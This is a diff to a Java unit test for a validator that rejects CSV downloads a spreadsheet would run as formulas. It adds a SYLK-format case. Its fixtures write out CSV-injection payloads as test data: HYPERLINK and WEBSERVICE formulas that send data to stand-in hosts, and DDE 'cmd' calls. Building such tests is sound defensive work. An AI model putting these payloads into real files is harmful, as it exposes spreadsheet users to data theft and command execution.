@@ -77,7 +77,7 @@ class DownloadsTest {
 
     @Test
     void aCellThatAGivenSpreadsheetRunsAsAFormulaIsRefusedAtItsLine(@TempDir Path tmp) {
-        Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv", "sep.csv", "lenient.csv");
+        Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv", "sep.csv", "lenient.csv", "sylk.csv");
         f.write(DIR + "data.csv", "name,link\nok,1\nleak,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"x\"\")\"\ncalc,-2+3+cmd|' /C calc'!A0\n"
                 + "sum,@SUM(1+1)*cmd|' /C calc'!A0\nspace, =1+1\n");
         f.write(DIR + "semi.csv", "name;value\nx;=1+1\n+7,x\n");
@@ -85,6 +85,7 @@ class DownloadsTest {
         f.write(DIR + "broken.csv", "a,b\n\"unclosed,1\n");
         f.write(DIR + "sep.csv", "sep=|\nname|value\nx|=HYPERLINK(\"http://evil.example/?leak\")\n");
         f.write(DIR + "lenient.csv", "x;\"a\"b,c\ny;=HYPERLINK(\"http://evil.example/\")\n");
+        f.write(DIR + "sylk.csv", "ID;P\nC;Y1;X1;K0;EWEBSERVICE(\"https://collector.example/c\")\nE\n");
         List<String> m = failing(f);
         has(m, DIR + "data.csv:3: the cell `=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")` starts with `=`: a spreadsheet opening the"
                 + " download runs it as a formula");
@@ -99,6 +100,7 @@ class DownloadsTest {
         has(m, DIR + "latin.csv: is not UTF-8 text (save the table as \"CSV UTF-8\"");
         has(m, DIR + "broken.csv: is not a well-formed CSV table");
         has(m, DIR + "sep.csv:1: the first line `sep=|` chooses the separator for Excel");
+        has(m, DIR + "sylk.csv:1: the file begins with `ID`, which makes Excel read it as a SYLK file");
         has(m, DIR + "lenient.csv:2: the cell `=HYPERLINK(\"http://evil.example/\")`" + semicolons + " starts with `=`");
         // A sign before a run of digits longer than any number a spreadsheet keeps is not read as one
         // (an attacker's trial: BigDecimal read a million digits in 26 s, each of three separators).
